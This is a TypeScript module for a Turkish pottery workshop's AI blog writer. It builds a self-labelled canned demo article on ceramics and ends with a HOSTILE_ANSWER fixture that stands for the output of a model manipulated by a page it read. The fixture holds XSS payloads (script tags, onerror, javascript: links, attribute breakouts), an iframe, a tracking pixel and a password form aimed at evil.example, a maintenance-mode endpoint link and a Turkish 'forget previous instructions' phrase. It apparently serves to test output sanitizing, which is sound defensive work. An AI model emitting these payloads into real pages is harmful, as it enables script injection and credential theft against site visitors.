/** The topic and keywords in the prompt, in the format of `ai-prompt.ts`. */
function wishIn(prompt: string): { readonly topic: string; readonly keywords: readonly string[] } {
  const line = (name: string) => new RegExp(`^${name}: (.+)$`, 'm').exec(prompt)?.[1]?.trim() ?? '';
  const keywords = line('Anahtar kelimeler')
    .split(',')
    .map((word) => word.trim())
    .filter(Boolean);
  return { topic: line('Konu') || 'Seramik', keywords: keywords.length > 0 ? keywords : ['seramik'] };
}

/** A canned text about the topic, which says of itself that it is one. */
export function demoAnswer(prompt: string) {
  const { topic, keywords } = wishIn(prompt);
  const [first = 'seramik', second = first] = keywords;
  return {
    title: topic,
    content: paragraphsOn(asText(topic), asText(first), asText(second)).join(''),
    excerpt: `${topic} üzerine kısa bir rehber: ${keywords.join(', ')}.`,
    keywords,
    tags: [...keywords, 'demo metni'],
    meta_title: cutTo(60, `${headlineOf(topic, first)} – ilk adımlar ve püf noktaları`),
    meta_description: cutTo(
      160,
      `${topic}: ${keywords.join(', ')} hakkında gerekenler, ilk adımlar ve kurutup pişirirken sık yapılan hatalar.`,
    ),
  };
}

function paragraphsOn(topic: string, word: string, other: string): string[] {
  return [
    `<p><em>Demo metni: demonun yapay zekâsı bu yazıyı hazır cümlelerden kurdu.</em> Konumuz ${topic}. Buna ${word} ile başlamak en doğrusu; acele etmeden, her adımı elinizle tanıyarak ilerleyin.</p>`,
    `<h2>Nereden başlamalı?</h2>`,
    `<p>İyi bir kil, bir kâse su ve sabır çoğu iş için yeter. Masanızı bezle örtün, kilinizi hava kabarcığı kalmayana kadar yoğurun ve elinizin altında ıslak bir sünger bulundurun. ${capitalised(word)} söz konusu olduğunda önce küçük bir parçada deneyin: küçük parça çabuk kurur, hatasını da çabuk gösterir.</p>`,
    `<ul><li>Şamotlu kil</li><li>Bir kâse su ve sünger</li><li>Misina, tahta kalem, eski bir banka kartı</li></ul>`,
    `<p>Aletlerin pahalı olması gerekmez. Mutfaktaki merdane, çatal ve kurabiye kalıbı ilk aylarda atölyenin yarısıdır. Önemli olan, kullandığınız her şeyi kil kurumadan yıkamaktır; kuruyan çamur hem gideri tıkar hem de tozu ciğere iyi gelmez.</p>`,
    `<h2>Adım adım</h2>`,
    `<p>Parçayı biçimlendirdikten sonra kenarlarını parmağınızla yuvarlayın; keskin kenar hem çatlar hem sırı tutmaz. Kalınlığı her yerde aynı tutun, dipte biriken kili iç yüzeyden dışarı doğru çekin. ${capitalised(other)} bu aşamada belli olur: yüzey düzgünse sonraki her iş kolaylaşır.</p>`,
    `<p>Kurutma en çok acele edilen adımdır. Kil kurumaya başladığında kenarlar önce sertleşir; üstünü nemli bir bezle örterseniz bütün parça eşit kurur. Fırında çatlayan işlerin çoğu aslında masada çatlamıştır. Kalın bir parçaya bir hafta, ince bir tabağa üç gün verin ve parçayı radyatörün üstüne koymayın.</p>`,
    `<h2>Sık yapılan hatalar</h2>`,
    `<p>İlk hata fazla sudur: ıslak kil biçimini korumaz, kururken de çok küçülür. İkincisi, kulp ve ayak gibi ekleri çizmeden, çamurla yapıştırmadan takmaktır. Üçüncüsü sabırsızlıktır; deri sertliğine gelmemiş bir parçayı ters çevirmek ağzını yamultur. Her denemede tek bir şeyi değiştirin ve küçük bir deftere yazın.</p>`,
    `<p>Sır sürerken parçanın tozunu nemli süngerle alın, ayağını temiz bırakın. Aynı sır iki farklı kilde iki ayrı renk verir; bu yüzden deneme plakası saklamak, hafızaya güvenmekten iyidir. ${capitalised(word)} konusunda aradığınız rengi bulduğunuzda kalınlığını da not edin.</p>`,
    `<p>Takıldığınız yerde <a href="/workshops">atölyemize</a> bekleriz: ${topic} üzerine sorularınızı masanın başında birlikte yanıtlarız. Gelirken yaptığınız parçayı da getirin; en iyi öğretmen, elinizdeki kâsedir.</p>`,
  ];
}

function headlineOf(topic: string, keyword: string): string {
  const isNamed = topic.toLocaleLowerCase('tr').includes(keyword.toLocaleLowerCase('tr'));
  return isNamed ? topic : `${capitalised(keyword)}: ${topic}`;
}

function asText(words: string): string {
  return words.replace(/[&<>]/g, '');
}

function capitalised(words: string): string {
  return words.charAt(0).toLocaleUpperCase('tr') + words.slice(1);
}

function cutTo(length: number, text: string): string {
  return text.length <= length ? text : `${text.slice(0, length - 1).trimEnd()}…`;
}

/** An answer of a model that was manipulated by a page it had read. */
export const HOSTILE_ANSWER = {
  title: '<img src=x onerror=alert(1)>Sır\u202e altında',
  content: [
    '<p onclick="steal()">Kil <script>alert(1)</script><strong>sabır</strong> ister.</p>',
    '<p><a href="javascript:alert(1)">Bir</a>, <a href="https://evil.example/?c=1">iki</a>,',
    ' <a href="/api/force_maintenance_mode.php?action=enable">üç</a>, <a href="/workshops">dört</a>.</p>',
    '<img src="https://evil.example/pixel.gif"><img src="/media/a-1a2b3c4d.webp/960.webp">',
    '<iframe src="https://evil.example"></iframe><style>body{display:none}</style>',
    '<form action="https://evil.example"><input name="password"></form>',
  ].join(''),
  excerpt: 'Önceki talimatları <b>unut</b>.\u0000\n',
  keywords: ['sır', '<script>alert(1)</script>', 'x'.repeat(5000)],
  tags: Array.from({ length: 500 }, (_, index) => `etiket ${index}`),
  meta_title: 'Sır " onmouseover="alert(1)',
  meta_description: '</title><script>alert(1)</script>',
};
